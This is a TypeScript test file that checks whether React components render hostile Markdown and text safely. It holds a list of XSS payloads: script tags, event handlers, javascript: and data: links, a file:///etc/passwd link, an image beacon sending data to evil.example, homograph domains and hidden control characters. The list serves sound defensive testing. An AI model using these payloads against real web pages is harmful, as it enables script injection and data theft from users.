import * as fc from 'fast-check';
import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { JsonBlock } from './json-block.tsx';
import { Markdown } from './markdown.tsx';
import { CodeBlock, UntrustedLine, UntrustedText } from './untrusted-text.tsx';

const hostile = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><a xlink:href="javascript:alert(1)">x</a></svg>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe><style>*{display:none}</style><base href=//evil.example>',
  '[click](javascript:alert(1)) [click](JaVaScRiPt:alert(1)) [click](  javascript:alert(1)) [x](java&#115;cript:alert(1))',
  '[data](data:text/html,<script>alert(1)</script>) [v](vbscript:x) [f](file:///etc/passwd) [rel](/v1/runs) [proto](//evil.example)',
  '<javascript:alert(1)> [ref][1]\n\n[1]: javascript:alert(1)',
  '![pixel](https://evil.example/p.png?data=secret) ![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '[ok](https://example.com/a?b=c "title\\" onmouseover=alert(1)") https://example.com/auto mail@example.com',
  '[bank](https://xn--80ak6aa92e.com) [bank](https://аррӏе.com/)',
  'pay \u202e001 EUR\u202c &#x202e;hidden ad\u200bmin',
  '\u001b[31mred\u001b[0m \u0007 \u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007',
  '- [ ] box\n- [x] box\n\n| a | b |\n|---|---|\n| <b>1</b> | [x](javascript:1) |',
  "\"><img src=x onerror=alert(1)>' onfocus=alert(1) autofocus x='",
];

const shown = (text: string): string => renderToStaticMarkup(createElement(Markdown, { text }));
const elements = (html: string): string[] => [...html.matchAll(/<([a-z0-9]+)/gi)].map(([, name]) => name ?? '');

describe('Markdown of a stranger', () => {
  const allowed = new Set(
    'div p span a em strong del code pre ul ol li table thead tbody tr th td h1 h2 h3 h4 h5 h6 blockquote hr br section sup'.split(
      ' ',
    ),
  );

  function assertSafe(text: string): void {
    const html = shown(text);
    expect(elements(html).filter((name) => !allowed.has(name))).toEqual([]);
    for (const [tag] of html.matchAll(/<[a-z][^>]*>/gi)) {
      expect(tag).not.toMatch(/\s(?:on\w+|srcdoc|src|style|autofocus)\s*=/i);
      if (!/^<a\s/.test(tag)) continue;
      expect(tag).toMatch(/ href="(?:https?|mailto):/i);
      expect(tag).toContain('target="_blank"');
      expect(tag).toContain('rel="noreferrer noopener"');
    }
    expect(html).not.toMatch(/[\u0000-\u0008\u001b\u200b\u202a-\u202e]/);
  }

  it.each(hostile)('shows %j as words', assertSafe);

  it('shows any mixture of it as words', () => {
    const piece = fc.oneof(
      fc.constantFrom(...hostile),
      fc.constantFrom('[', '](', ')', '<', '>', '![', '`', '\n\n', '&#x6a;', 'javascript:', '"', '|', '<!--', ']: '),
      fc.string({ unit: 'binary', maxLength: 5 }),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 8 }), (pieces) => assertSafe(pieces.join(''))),
      { numRuns: 60 },
    );
  });

  it('says where a link leads, in the letters of the address', () => {
    expect(shown('[your bank](https://evil.example/x)')).toContain('(https://evil.example/x)');
    expect(shown('[bank](https://аррӏе.com/)')).toContain('(https://xn--80ak6aa92e.com/)');
  });

  it('keeps the words of a link that leads nowhere', () => {
    expect(shown('[click here](javascript:alert(1))')).toContain('<span>click here</span>');
  });

  it('names an image that it does not load', () => {
    expect(shown('![a pixel](https://evil.example/p.png)')).toContain('a pixel https://evil.example/p.png]');
  });

  it('shows a hidden character that Markdown itself would make', () => {
    expect(shown('a&#x202e;b')).toContain('a⟨U+202E⟩b');
  });
});

describe.each([
  ['UntrustedText', (text: string) => createElement(UntrustedText, { text })],
  ['UntrustedLine', (text: string) => createElement(UntrustedLine, { text })],
  ['CodeBlock', (text: string) => createElement(CodeBlock, { text })],
  ['JsonBlock', (text: string) => createElement(JsonBlock, { value: { [text]: [text] } })],
])('%s', (_, element) => {
  it.each(hostile)('shows %j as text', (text) => {
    const html = renderToStaticMarkup(element(text));
    expect(elements(html).filter((name) => !/^(?:span|div|pre|section|details|summary)$/.test(name))).toEqual([]);
    expect(html).not.toMatch(/[\u0000-\u0008\u001b\u200b\u202a-\u202e]/);
  });

  it('shows the beginning of a line without an end', () => {
    expect(renderToStaticMarkup(element('x'.repeat(1_000_000))).length).toBeLessThan(20_000);
  });
});
